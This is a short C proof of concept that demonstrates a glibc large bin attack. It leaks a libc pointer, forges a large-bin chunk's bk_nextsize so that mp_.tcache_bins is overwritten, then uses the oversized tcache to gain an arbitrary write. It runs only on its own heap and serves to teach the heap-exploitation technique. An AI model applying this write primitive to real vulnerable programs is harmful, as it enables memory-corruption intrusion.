/* A large bin attack on mp_.tcache_bins: the thread's cache reaches behind its own arrays. */
#include <assert.h>
#include <malloc.h>
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>
#define NB_TCACHE 64
int main(void)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	setvbuf(stdin, NULL, _IONBF, 0);
	unsigned long *unsorted = malloc(0x410);
	malloc(0x18);
	free(unsorted);
	unsigned long leak = unsorted[0];
	void *mp_tcache_bins = (void *)(leak - 0x60 - 0x920 + 0x68);
	assert(*(size_t *)mp_tcache_bins == NB_TCACHE);
	unsorted = malloc(0x410);
	size_t *p1 = malloc(0x428); char *g1 = malloc(0x18);
	size_t *p2 = malloc(0x418); char *g2 = malloc(0x18);
	(void)g1; (void)g2;
	free(p1);
	malloc(0x438);
	free(p2);
	p1[3] = (size_t)mp_tcache_bins - 0x20;
	malloc(0x438);
	assert(*(size_t *)mp_tcache_bins > 0x550000000000);
	unsigned long *target = malloc(0x20);
	/* the entry of size s lies at tcache+0x80+8*idx */
	uintptr_t tcache = ((uintptr_t)target & ~0xfffUL) + 0x10;
	uintptr_t where = (uintptr_t)target;
	size_t idx = (where - (tcache + 0x80)) / 8;
	size_t size = idx * 16 + 0x18;
	unsigned long *big = malloc(size);
	unsigned long *after = malloc(0x10); (void)after;
	target[0] = 0;
	free(big);
	assert(target[0] == (unsigned long)big);
	puts("written");
	return 0;
}
